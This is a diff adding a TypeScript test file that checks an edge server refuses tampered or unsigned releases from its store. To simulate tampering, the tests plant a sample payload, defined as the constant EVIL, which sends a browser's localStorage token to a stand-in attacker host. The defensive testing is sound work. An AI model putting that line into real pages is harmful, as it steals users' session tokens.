@@ -1,0 +1,109 @@
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import type { FastifyInstance } from 'fastify';
+import { integrityOf } from 'tooling/release';
+
+import { verify } from '../deploy/verify';
+import { type EdgeSettings, readEdgeSettings } from '../env';
+import { publish } from '../publish/publish';
+import { openStore, type Store } from '../store/store';
+import { fakeRelease, fakeShell, remoteServer } from '../testing/fakeReleases';
+import { trustedTeams } from '../testing/trustedTeams';
+import { NewestSeen } from '../trust/NewestSeen';
+import { buildEdge } from './app';
+
+const AUTHOR = { by: 'test', reason: 'test' };
+const EVIL = 'fetch("https://evil.example?" + localStorage.token)';
+const PREFIX = 'releases/remote-x/1.0.0-aaaaaaaa/';
+const CHUNK = 'page.22222222.js';
+
+let settings: EdgeSettings;
+let store: Store;
+let edge: FastifyInstance;
+let teams: ReturnType<typeof begin>;
+const begin = () => trustedTeams(['all'], 1);
+
+beforeEach(async () => {
+  teams = begin();
+  const DATA_DIR = mkdtempSync(`${tmpdir()}/edge-`);
+  settings = readEdgeSettings({ DATA_DIR, LOG_LEVEL: 'silent' });
+  store = { ...openStore(settings.storeUrl), guard: teams.all };
+  await publish(store, [fakeShell(), aRemote('1.0.0-aaaaaaaa')], AUTHOR);
+});
+afterEach(() => edge.close());
+
+/** Somebody who can write to the store changes a file, and what release.json says of it. */
+async function tamper(file: 'server.cjs' | typeof CHUNK, text: string): Promise<void> {
+  const release = JSON.parse(String(await store.read(`${PREFIX}release.json`)));
+  const described = file === 'server.cjs' ? release.server : release.files[file];
+  described.integrity = integrityOf(text);
+  await store.replace(PREFIX + file, text);
+  await store.replace(`${PREFIX}release.json`, JSON.stringify(release));
+}
+
+describe.each([
+  ['with keys', () => store],
+  ['without keys', () => openStore(settings.storeUrl)],
+])('a release that was changed in a store %s, its release.json with it', (_keys, read) => {
+  it('is in no document of an edge that starts then', async () => {
+    await tamper(CHUNK, EVIL);
+    edge = await buildEdge(settings, read());
+    const { body } = await edge.inject('/my/startups');
+    expect(body).toContain('1.0.0-aaaaaaaa');
+    expect(body).not.toContain(integrityOf(EVIL));
+    expect((await verify(read(), 1)).join()).toContain(
+      `${PREFIX}release.json is not what was published`,
+    );
+  });
+
+  it('is not run on the edge', async () => {
+    await tamper('server.cjs', remoteServer('EVIL'));
+    edge = await buildEdge(settings, read());
+    const { body, headers } = await edge.inject('/');
+    expect(headers['x-rendered']).toBe('client');
+    expect(body).not.toContain('EVIL');
+  });
+
+  it('is as it was for an edge that runs', async () => {
+    edge = await buildEdge(settings, read());
+    await edge.inject('/');
+    await tamper(CHUNK, EVIL);
+    const { body } = await edge.inject({
+      url: '/my/startups',
+      headers: { cookie: '__Host-session=x' },
+    });
+    expect(body).not.toContain(integrityOf(EVIL));
+    expect(body).toContain(`${CHUNK}" integrity="sha384-`);
+  });
+
+  it('has no more files than it had', async () => {
+    await store.create(`${PREFIX}evil.js`, EVIL);
+    edge = await buildEdge(settings, read());
+    expect((await edge.inject(`/${PREFIX}evil.js`)).statusCode).toBe(404);
+    expect((await edge.inject(`/${PREFIX}${CHUNK}`)).statusCode).toBe(200);
+  });
+});
+
+it('a revision nobody signed is not shown, and the one before goes on', async () => {
+  edge = await buildEdge(settings, { ...openStore(settings.storeUrl), guard: teams.reader });
+  expect((await edge.inject('/')).body).toContain('1.0.0-aaaaaaaa');
+  await publish(openStore(settings.storeUrl), [aRemote('6.6.6-66666666')], AUTHOR);
+  const { body } = await edge.inject('/');
+  expect(body).toContain('1.0.0-aaaaaaaa');
+  expect(body).not.toContain('6.6.6');
+  expect((await edge.inject('/registry.json')).body).not.toContain('6.6.6');
+  expect((await edge.inject('/edge/health')).json()).toMatchObject({ revision: 1 });
+
+  await edge.close(); // one that starts then shows the same
+  const guard = { trust: teams.trust, seen: new NewestSeen(teams.trust.store) };
+  edge = await buildEdge(settings, { ...openStore(settings.storeUrl), guard });
+  expect((await edge.inject('/registry.json')).json()).toMatchObject({ revision: 1 });
+});
+
+function aRemote(id: string) {
+  const routes = [
+    { path: '/', ahead: true },
+    { path: '/my/startups', access: 'member' as const },
+  ];
+  return fakeRelease({ name: 'remote-x', id, routes });
+}
